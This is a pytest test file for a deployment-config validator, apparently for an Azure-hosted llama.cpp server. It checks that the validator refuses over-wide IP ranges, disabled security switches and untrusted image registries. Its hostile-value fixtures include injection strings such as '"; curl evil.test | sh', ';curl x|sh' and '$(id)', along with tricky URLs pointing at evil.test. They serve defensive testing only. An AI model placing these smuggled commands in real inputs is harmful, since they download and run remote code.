"""Production rules by meaning, not by literal value: address ranges measured as what they admit,
security switches strictly boolean and on, prebuilt images from trusted registries, values
without credentials, and hostile values of every kind refused with the key and the fix."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core import networks
from core.loading import load_config
from tests.conftest import only, preview_problems

GROUP = "3f2504e0-4f89-11d3-9a0c-0305e82c3301"
PRODUCTION = {"production": True, "entraAdminGroupObjectIds": [GROUP], "authorizedIpRanges": ["198.18.0.0/24"]}
ALERTED = {"alerts": {"emails": ["oncall@llm-team.org"]}}
DIGEST = "0" * 64


def prod(**sections: object) -> dict[str, object]:
    cluster = {**PRODUCTION, **sections.pop("cluster", {})}  # type: ignore[dict-item]
    return {**ALERTED, "cluster": cluster, **sections}


def test_a_production_stack_without_example_values_passes():
    config, _ = load_config(prod(), "prod")
    assert config.cluster.production


# --- address ranges: the union, measured --------------------------------------------------

WIDE = {
    "two-halves-of-ipv4": ["0.0.0.0/1", "128.0.0.0/1"],
    "two-halves-of-ipv6": ["::/1", "8000::/1"],
    "ipv4-mapped-ipv6": ["::ffff:0.0.0.0/96"],
    "nat64-prefix": ["64:ff9b::/96"],
    "a-slash-7": ["4.0.0.0/7"],
    "many-slash-9s": [f"{i}.0.0.0/9" for i in range(11, 14)],
    "global-ipv6-slash-31": ["2001:db0::/31"],
    "everything": ["0.0.0.0/0"],
}


@pytest.mark.parametrize("cidrs", WIDE.values(), ids=WIDE.keys())
def test_production_refuses_api_server_ranges_that_together_admit_the_internet(cidrs):
    msg = only(preview_problems(prod(cluster={"authorizedIpRanges": cidrs}), stack="prod"))
    assert msg.startswith(f"cluster.authorizedIpRanges={cidrs!r} together admit ")
    assert "more than one organisation holds (at most a /8 of IPv4 and a /32 of IPv6)" in msg


@pytest.mark.parametrize("cidrs", WIDE.values(), ids=WIDE.keys())
def test_production_refuses_load_balancer_ranges_that_together_admit_the_internet(cidrs):
    raw = prod(service={"type": "InternalLoadBalancer", "allowedCidrs": cidrs})
    msg = only(preview_problems(raw, stack="prod"))
    assert msg.startswith(f"service.allowedCidrs={cidrs!r} together admit ")


@pytest.mark.parametrize(
    "cidrs",
    [["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"], ["20.0.0.0/8"], ["2001:db8::/32"], ["fd00::/8"]],
)
def test_production_accepts_private_ranges_and_one_organisations_block(cidrs):
    load_config(prod(cluster={"authorizedIpRanges": cidrs}, service={"allowedCidrs": cidrs}), "prod")


@given(st.lists(st.integers(min_value=9, max_value=32), min_size=1, max_size=8))
def test_splitting_a_range_never_changes_what_it_admits(prefixes):
    whole = networks.public_space(["0.0.0.0/0"])
    for prefix in prefixes:
        net = f"0.0.0.0/{prefix}"
        split = [str(n) for n in networks.ipaddress.ip_network(net).subnets(prefixlen_diff=1)]
        assert networks.public_space(split) == networks.public_space([net])
    assert whole.too_wide


# --- security switches: strictly boolean, and on in production -----------------------------


@pytest.mark.parametrize("value", ["off", "no", "false", 0, "0", "true", 1])
@pytest.mark.parametrize("key", ["localAccountsDisabled", "production", "azurePolicy", "privateCluster"])
def test_a_security_switch_takes_only_true_or_false(key, value):
    msg = only(preview_problems({**ALERTED, "cluster": {key: value}}))
    assert msg.startswith(f"cluster.{key}={value!r} is not true or false")


@pytest.mark.parametrize("key", ["remoteImages", "webUi"])
def test_server_switches_take_only_true_or_false(key):
    msg = only(preview_problems({"server": {key: "on"}}))
    assert msg.startswith(f"server.{key}='on' is not true or false")


@pytest.mark.parametrize("key", ["localAccountsDisabled", "azurePolicy", "encryptionAtHost"])
def test_production_keeps_every_security_switch_on(key):
    msg = only(preview_problems(prod(cluster={key: False}), stack="prod"))
    assert msg.startswith(f"cluster.{key}=false with cluster.production=true (stack prod)")
    assert f"set cluster.{key}=true" in msg


# --- prebuilt images ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "ref",
    [
        f"example.azurecr.io/../etc/llama@sha256:{DIGEST}",
        f"example.azurecr.io/llama;curl x|sh@sha256:{DIGEST}",
        f"$(id).azurecr.io/llama@sha256:{DIGEST}",
        f"llama-server@sha256:{DIGEST}",
        f"example.azurecr.io/llama server@sha256:{DIGEST}",
    ],
)
def test_prebuilt_image_refuses_traversal_and_shell_characters(ref):
    msg = only(preview_problems({"image": {"prebuilt": ref}}))
    assert msg.startswith("image.prebuilt=") and "is not an image in a registry pinned by digest" in msg


def test_production_takes_a_prebuilt_image_only_from_its_own_or_a_trusted_registry():
    ref = f"docker.io/someone/llama-server:latest@sha256:{DIGEST}"
    msg = only(preview_problems(prod(image={"prebuilt": ref}), stack="prod"))
    assert msg.startswith(f"image.prebuilt='{ref}' comes from docker.io with cluster.production=true (stack prod)")
    load_config(prod(image={"prebuilt": ref, "trustedRegistries": ["docker.io"]}), "prod")
    load_config(prod(image={"prebuilt": f"llamacppprodacrr3nd3r.azurecr.io/llama-server@sha256:{DIGEST}"}), "prod")
    load_config({"image": {"prebuilt": ref}}, "dev")


@pytest.mark.parametrize("repo", ["ghcr.io/ggml-org/llama.cpp:server-cuda", "ghcr.io/ggml-org/llama.cpp:server"])
def test_upstream_llama_cpp_images_are_refused_for_lack_of_the_scripts(repo):
    msg = only(preview_problems({"image": {"prebuilt": f"{repo}@sha256:{DIGEST}"}}))
    assert "is llama.cpp's upstream image, which has no /usr/local/bin/fetch-model.sh or /usr/local/bin/drain.sh" in msg


# --- values: no credentials, no tricks ----------------------------------------------------

HOSTILE = {
    "webhook-with-credentials": (
        {"alerts": {"webhooks": ["https://user:pass@hooks.llm-team.org/x"]}},
        "alerts.webhooks[0]",
        "is not an HTTPS URL with a host name and no user:password@",
    ),
    "webhook-with-backslash-at": (
        {"alerts": {"webhooks": ["https://hooks.llm-team.org\\@evil.test/x"]}},
        "alerts.webhooks[0]",
        "is not an HTTPS URL",
    ),
    "webhook-with-at-host": (
        {"alerts": {"webhooks": ["https://evil.test@hooks.llm-team.org/"]}},
        "alerts.webhooks[0]",
        "is not an HTTPS URL",
    ),
    "email-with-nul": ({"alerts": {"emails": ["a\0@llm-team.org"]}}, "alerts.emails[0]", "is not an email address"),
    "email-with-rtl-override": (
        {"alerts": {"emails": ["gro.\u202emaet@llm.org"]}},
        "alerts.emails[0]",
        "is not an email address",
    ),
    "acme-email-with-two-ats": (
        {"ingress": {"acmeEmail": "a@b@llm-team.org"}},
        "ingress.acmeEmail",
        "is not an email address",
    ),
    "negative-spot-price": (
        {"cluster": {"gpuPool": {"spotMaxPrice": -5}}},
        "cluster.gpuPool.spotMaxPrice",
        "is neither -1 (pay up to the on-demand price) nor a positive price",
    ),
    "zero-spot-price": ({"cluster": {"gpuPool": {"spotMaxPrice": 0}}}, "cluster.gpuPool.spotMaxPrice", "is neither"),
    "cron-star-range": (
        {"autoscaling": {"activeHours": {"days": "*-7"}}},
        "autoscaling.activeHours.days",
        "is not a cron day-of-week field",
    ),
    "cron-star-list": ({"autoscaling": {"activeHours": {"days": "1,*"}}}, "autoscaling.activeHours.days", "is not"),
    "system-vm-size-with-shell": (
        {"cluster": {"systemPool": {"vmSize": 'Standard_D4"; curl evil.test | sh'}}},
        "cluster.systemPool.vmSize",
        "is not an Azure VM size name",
    ),
    "gpu-vm-size-with-newline": (
        {"cluster": {"gpuPool": {"vmSize": "Standard_NV36ads_A10_v5\nx"}}},
        "cluster.gpuPool.vmSize",
        "is not an Azure VM size name",
    ),
}


@pytest.mark.parametrize(("raw", "key", "what"), HOSTILE.values(), ids=HOSTILE.keys())
def test_refuses_hostile_values_with_the_key_and_the_fix(raw, key, what):
    msg = only(preview_problems(raw))
    assert msg.startswith(f"{key}=") and what in msg
    assert "\0" not in msg and "\u202e" not in msg


def test_accepts_ordinary_alert_receivers():
    config, _ = load_config(
        {
            "alerts": {
                "emails": ["first.last+llm@mail.llm-team.org"],
                "webhooks": ["https://hooks.llm-team.org:8443/a?b=c"],
            }
        },
        "dev",
    )
    assert config.alerts.webhooks
